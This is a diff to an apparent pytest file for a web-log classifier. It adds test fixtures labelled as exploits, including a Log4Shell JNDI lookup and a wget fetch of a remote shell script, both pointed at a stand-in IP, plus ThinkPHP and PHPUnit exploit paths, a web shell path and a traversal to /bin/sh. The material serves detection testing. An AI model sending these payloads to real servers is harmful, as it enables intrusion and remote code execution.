@@ -56,6 +56,13 @@ PATHS = {
         "/cgi-bin/.%2e/.%2e/bin/sh",
     ],
     WebFlag.ROBOTS_TXT: ["/robots.txt"],
+    WebFlag.EXPLOIT: [
+        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+        "/wsoshell.php",
+        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
+        "/boaform/admin/formLogin",
+    ],
+    WebFlag.PROXY: ["http://example.com/", "https://api.ipify.org/", "example.com:443"],
 }
 QUERIES = {
     WebFlag.SQL_INJECTION: [
@@ -73,6 +80,12 @@ QUERIES = {
         "q=<img src=x onerror=alert(1)>",
     ],
     WebFlag.TRAVERSAL: ["file=../../../../etc/passwd", "page=..%2f..%2fetc%2fshadow"],
+    WebFlag.EXPLOIT: [
+        "x=${jndi:ldap://198.51.100.1/a}",
+        "x=%24%7Bjndi:ldap://h/a}",
+        "s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
+        "cmd=cd+/tmp;wget+http://198.51.100.1/x.sh",
+    ],
 }
 ORDINARY_PATHS = [
     "/",
@@ -95,7 +108,7 @@ ORDINARY_QUERIES = [
     "q=1+or+2+pairs",
 ]
 ATTACKS = WebFlag.SENSITIVE_FILE | WebFlag.ADMIN | WebFlag.TRAVERSAL | WebFlag.SQL_INJECTION \
-    | WebFlag.XSS  # fmt: skip
+    | WebFlag.XSS | WebFlag.EXPLOIT | WebFlag.PROXY  # fmt: skip
 
 
 @pytest.mark.parametrize("flag", list(PATHS))
@@ -131,7 +144,9 @@ def test_kind_method_and_referrer_bits() -> None:
     got = _flags([
         {**_get("/a.css"), "request_kind": "static", "referrer": "https://shop.example/"},
         {**_get("/"), "method": "HEAD"},
+        {**_get("example.com:443"), "method": "CONNECT"},
     ])  # fmt: skip
+    assert WebFlag.PROXY in got[2]
     assert WebFlag.STATIC in got[0] and WebFlag.NO_REFERRER not in got[0]
     assert WebFlag.HEAD in got[1] and WebFlag.NO_REFERRER in got[1] and WebFlag.PAGE in got[1]
 
